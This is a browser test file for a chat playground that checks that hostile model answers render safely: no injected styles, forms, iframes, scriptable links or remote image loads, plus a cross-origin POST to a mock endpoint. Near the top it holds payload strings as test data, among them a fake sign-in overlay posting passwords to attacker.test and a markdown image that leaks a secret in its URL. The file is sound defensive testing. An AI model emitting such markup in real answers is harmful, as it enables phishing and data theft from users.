// biome-ignore-all lint/performance/useDomNodeTextContent: Playwright locators, not DOM nodes; innerText is what the user sees
import type { Page, Request as PlaywrightRequest } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type LaunchedChromium, launchChromium } from '../../../test-support/launch-chromium';
import { type PlaygroundServer, startPlaygroundServer } from '../src/server/playground-server';
import { ChatPage } from './support/chat-page';
import { pinLanguage } from './support/language';
import { BUILT_UI, outputPath } from './support/paths';

/** Answers an adversarial review made the model produce (issue 16.1), stored as they would be. */
const BLANK_PAGE = 'Here you go.\n\n<style>body{display:none} *{visibility:hidden}</style>';
const PASSWORD_OVERLAY =
  '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">' +
  '<form action="https://attacker.test/steal" method="post"><p>Session expired, sign in again</p>' +
  '<input type="password" name="pw" data-testid="phish"><button>Sign in</button></form></div>';
const LEAKING_IMAGE = 'The answer is 42. ![chart](https://attacker.test/?q=secret)';
const ESCAPING_MARKUP =
  '<iframe src="https://attacker.test/frame"></iframe><object data="https://attacker.test/o"></object>' +
  '<a href="javascript:alert(1)">js link</a> <a href="data:text/html,<b>x</b>">data link</a> ' +
  '<a href="https://example.com/doc">a real link</a>' +
  '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22/>" onerror="window.__pwned=1">';

const STORAGE_KEY = 'xinghuo-playground:v1';

/** A stored conversation whose answers are the payloads above. */
function storedState(answers: readonly string[]) {
  const turns = answers.flatMap((content, index) => [
    { id: `q${index}`, role: 'user', content: `question ${index}` },
    { id: `a${index}`, role: 'assistant', content, status: 'done', model: 'lite' },
  ]);
  return JSON.stringify({
    conversations: [{ id: 'hostile', title: 'hostile answers', turns, updatedAt: 1 }],
    activeId: 'hostile',
  });
}

describe('playground in Chromium: hostile model output (issue 16.1)', () => {
  let playground: PlaygroundServer;
  let chromium: LaunchedChromium;
  let page: Page;
  let chat: ChatPage;
  const requests: string[] = [];
  const pageErrors: string[] = [];

  /** Whether the element is the top-most one at its own centre, i.e. a click there reaches it. */
  async function receivesClicks(testIdOrSelector: string): Promise<boolean> {
    const locator = testIdOrSelector.startsWith('[')
      ? page.locator(testIdOrSelector).first()
      : page.getByTestId(testIdOrSelector);
    await locator.scrollIntoViewIfNeeded();
    return locator.evaluate((element) => {
      const box = element.getBoundingClientRect();
      const hit = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
      return hit !== null && (hit === element || element.contains(hit));
    });
  }

  beforeAll(async () => {
    playground = await startPlaygroundServer({ port: 0, env: {}, staticDir: BUILT_UI, mockLatencyMs: 5 });
    chromium = await launchChromium({ profilePrefix: 'xinghuo-playground-hostile-' });
    await pinLanguage(chromium.context, 'en');
    // Nothing may leave for the attacker's host; answer it locally so no test ever reaches a network.
    await chromium.context.route('https://attacker.test/**', (route) =>
      route.fulfill({ status: 200, contentType: 'text/plain', body: 'attacker' }),
    );
    page = chromium.context.pages()[0] ?? (await chromium.context.newPage());
    page.on('request', (request: PlaywrightRequest) => requests.push(request.url()));
    page.on('pageerror', (error) => pageErrors.push(error.message));
    chat = new ChatPage(page);
    await page.goto(playground.url.replace('localhost', '127.0.0.1'));
    await page.getByTestId('mode-badge').waitFor();
    await page.evaluate(
      ([key, value]) => localStorage.setItem(key!, value!),
      [STORAGE_KEY, storedState([BLANK_PAGE, PASSWORD_OVERLAY, LEAKING_IMAGE, ESCAPING_MARKUP])],
    );
    await page.reload();
    // Attached, not visible: on a page an answer blanked, each test below says what went wrong.
    await page.getByTestId('assistant-message').nth(3).waitFor({ state: 'attached' });
  });

  afterAll(async () => {
    await chromium?.close();
    await playground?.close();
  });

  it('keeps the page visible: no <style> or style attribute from an answer takes effect', async () => {
    await expect(page.evaluate(() => getComputedStyle(document.body).display)).resolves.not.toBe('none');
    await expect(page.getByTestId('composer-input').isVisible()).resolves.toBe(true);
    const list = page.getByTestId('message-list');
    await expect(list.locator('style').count()).resolves.toBe(0);
    await expect(list.locator('[style]').count()).resolves.toBe(0);
    await expect(page.getByText('Here you go.').isVisible()).resolves.toBe(true);
    await page.screenshot({ path: outputPath('hostile-output.png') });
  });

  it('renders no form or password field, and nothing covers the composer or the delete button', async () => {
    const list = page.getByTestId('message-list');
    await expect(
      list.locator('form, input, button:not(.remote-image), iframe, object').count(),
    ).resolves.toBe(0);
    await expect(page.getByTestId('phish').count()).resolves.toBe(0);
    await expect(receivesClicks('composer-input')).resolves.toBe(true);
    await expect(receivesClicks('[data-testid="conversation-list"] .conversation-delete')).resolves.toBe(
      true,
    );
  });

  it('loads no remote image: a placeholder names the host, and the image opens only on a click', async () => {
    expect(requests.filter((url) => url.includes('attacker.test'))).toEqual([]);
    const placeholder = chat.page.getByTestId('assistant-message').nth(2).locator('.remote-image');
    await expect(placeholder.innerText()).resolves.toContain('attacker.test');
    await expect(chat.page.getByTestId('message-list').locator('img').count()).resolves.toBe(0);
    // The click opens the image in a new tab, where this page's referrer and opener are not passed.
    const [popup] = await Promise.all([chromium.context.waitForEvent('page'), placeholder.click()]);
    await popup.waitForLoadState('domcontentloaded');
    expect(popup.url()).toBe('https://attacker.test/?q=secret');
    await expect(popup.evaluate(() => [document.referrer, window.opener === null])).resolves.toEqual([
      '',
      true,
    ]);
    await popup.close();
  });

  it('keeps only web links: javascript: and data: URLs, iframes and objects are removed', async () => {
    const answer = page.getByTestId('assistant-message').nth(3);
    const hrefs = await answer
      .locator('a')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href')));
    expect(hrefs).toEqual(['https://example.com/doc']);
    await expect(answer.innerText()).resolves.toContain('js link');
    await expect(page.evaluate(() => (window as { __pwned?: number }).__pwned)).resolves.toBeUndefined();
  });

  it('serves a policy that refuses form posts and remote images even if markup got through', async () => {
    const response = await fetch(playground.url.replace('localhost', '127.0.0.1'));
    const policy = response.headers.get('content-security-policy') ?? '';
    expect(policy).toContain("form-action 'none'");
    expect(policy).toMatch(/img-src 'self' data:(;|$)/);
    expect(policy).toMatch(/style-src 'self'(;|$)/);
  });

  it('stays usable: a new question (quoted back with the payload by the mock) streams, and delete works', async () => {
    await chat.ask(`Repeat this: ${BLANK_PAGE} ${PASSWORD_OVERLAY}`);
    await expect(chat.settled()).resolves.toBe('done');
    await expect(page.evaluate(() => getComputedStyle(document.body).display)).resolves.not.toBe('none');
    await expect(page.getByTestId('phish').count()).resolves.toBe(0);
    await expect(receivesClicks('composer-input')).resolves.toBe(true);
    await page.getByTestId('conversation-list').locator('.conversation-delete').first().click();
    await expect(page.getByTestId('assistant-message').count()).resolves.toBe(0);
    await expect(page.evaluate((key) => localStorage.getItem(key) ?? '', STORAGE_KEY)).resolves.not.toContain(
      'attacker.test',
    );
  });

  it('ignores a no-cors POST from another origin to the mock fault endpoint (issue 16.6)', async () => {
    // http://localhost:<port> and http://127.0.0.1:<port> are different origins (and sites). The
    // other page is a plain-text 404, which carries no CSP of ours that would stop its fetch.
    const other = await chromium.context.newPage();
    await other.goto(`${playground.url}/not-here.txt`);
    const armedBefore = playground.mock!.connections.length;
    const target = `${playground.url.replace('localhost', '127.0.0.1')}/api/mock/next-fault`;
    await other.evaluate(async (url) => {
      await fetch(url, { method: 'POST', mode: 'no-cors', body: '{"fault":"input-moderation"}' });
      await fetch(url, {
        method: 'POST',
        mode: 'no-cors',
        headers: { 'content-type': 'text/plain' },
        body: '{"fault":"input-moderation"}',
      });
    }, target);
    await other.close();
    // The next answer on the playground page is not refused by moderation: nothing was armed.
    await chat.ask('是否被设置了故障？');
    await expect(chat.settled()).resolves.toBe('done');
    expect(playground.mock!.connections.length).toBe(armedBefore + 1);
  });

  it('threw no uncaught error in the page', () => {
    expect(pageErrors).toEqual([]);
  });
});
